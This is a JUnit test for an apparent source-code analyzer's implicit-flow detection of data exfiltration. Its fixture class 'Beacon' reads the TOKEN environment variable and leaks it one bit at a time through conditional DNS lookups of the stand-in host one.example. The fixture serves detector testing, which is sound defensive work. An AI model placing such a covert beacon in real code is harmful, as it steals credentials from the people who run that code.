package dev.clearbox.analyzers.source;

import dev.clearbox.analyzers.capability.CapabilityModel;
import dev.clearbox.core.Finding;
import dev.clearbox.core.ProgressListener;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Implicit flows (opt-in, {@code --implicit-flows}): a secret that decides whether a network call runs leaks a bit at
 * a time. Off by default: the same code reports nothing, because no data reaches the call.
 */
class ImplicitFlowTest {
    @TempDir
    Path root;

    private static final String BEACON = """
            package com.acme;
            import java.net.InetAddress;
            class Beacon {
                void leak(String secret) throws Exception {
                    for (int i = 0; i < secret.length(); i++) {
                        if (secret.charAt(i) == 'a') {
                            ping();
                        }
                    }
                }
                void ping() throws Exception {
                    InetAddress.getByName("one.example");
                }
                void quiet(int n) throws Exception {
                    if (n > 2) {
                        ping();
                    }
                }
                void run() throws Exception {
                    leak(System.getenv("TOKEN"));
                    quiet(3);
                }
            }
            """;

    @Test
    void aSecretThatDecidesWhetherANetworkCallRunsIsAFlowOnlyWhenAskedFor() throws Exception {
        Path file = root.resolve("src/com/acme/Beacon.java");
        Files.createDirectories(file.getParent());
        Files.writeString(file, BEACON);

        List<Finding> explicit = flows(false);
        assertEquals(List.of(), explicit, "no data reaches getByName: nothing by default");

        List<Finding> implicit = flows(true);
        assertEquals(1, implicit.size(), implicit.toString());
        Finding f = implicit.get(0);
        assertEquals(12, f.location().line(), "the sink in ping()");
        assertEquals(20, f.flow().source().line(), "the environment variable read in run()");
        // the loop's condition (i < secret.length()) or the if's (secret.charAt(i) == 'a'): both decide on the secret
        assertTrue(f.path().stream().anyMatch(s -> s.note().contains("decides whether what follows runs")
                && (s.location().line() == 5 || s.location().line() == 6)), f.path().toString());
        assertTrue(f.path().stream().anyMatch(s -> s.note().equals("calls Beacon.ping")), f.path().toString());
        assertTrue(f.path().stream().anyMatch(s -> s.note().contains("controls whether it runs")), f.path().toString());
    }

    private List<Finding> flows(boolean implicitFlows) {
        SourceAnalysisResult r = new SourceAnalyzer(2).analyze(new SourceAnalysisRequest(root, CapabilityModel.builtIn(),
                List.of(), implicitFlows), ProgressListener.NONE);
        return r.findings().stream().filter(x -> x.ruleId().equals("CBX-SRC-EXFIL")).toList();
    }
}
